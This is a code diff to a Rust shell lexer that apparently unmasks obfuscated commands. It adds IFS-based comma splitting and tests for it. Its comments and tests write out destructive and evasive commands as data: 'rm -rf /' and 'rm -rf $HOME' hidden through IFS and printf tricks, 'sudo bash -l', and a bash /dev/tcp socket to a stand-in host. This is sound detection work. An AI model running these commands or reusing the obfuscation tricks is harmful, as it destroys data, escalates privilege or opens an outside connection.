@@ -1743,6 +1743,22 @@ impl<'a> Lexer<'a> {
                 w.ifs_split = true;
             }
         }
+        // `IFS=,` set earlier: an unquoted expansion splits at its commas
+        // (`c=rm,-rf,$HOME; IFS=,; $c` runs `rm -rf $HOME`).
+        let custom = self
+            .vars
+            .get("IFS")
+            .filter(|ifs| !ifs.is_empty() && !ifs.bytes().all(|b| b.is_ascii_whitespace()));
+        if let Some(ifs) = custom.filter(|ifs| !in_dquote && v.contains(|c| ifs.contains(c))) {
+            self.obfuscated = true;
+            w.ifs_split = true;
+            let split: String = v
+                .chars()
+                .map(|c| if ifs.contains(c) { ' ' } else { c })
+                .collect();
+            w.text.push_str(&split);
+            return;
+        }
         w.text.push_str(v);
     }
 
@@ -2107,6 +2123,8 @@ mod tests {
         assert_eq!(cmds("$(printf '\\x72\\x6d') -rf /")[0], "rm -rf /");
         assert_eq!(cmds("sudo -- $(printf 'ba%s' sh) -l")[0], "sudo bash -l");
         assert_eq!(cmds("$(printf %s r m) -rf /")[0], "rm -rf /");
+        assert_eq!(cmds("c=rm,-rf,/; IFS=,; $c").last().unwrap(), "rm -rf /");
+        assert_eq!(cmds("c=a,b; echo \"$c\"").last().unwrap(), "echo a,b");
         assert_eq!(
             cmds("{bash,-c,'exec 5<>/dev/tcp/203.0.113.4/443'}")[0],
             "bash -c exec 5<>/dev/tcp/203.0.113.4/443"
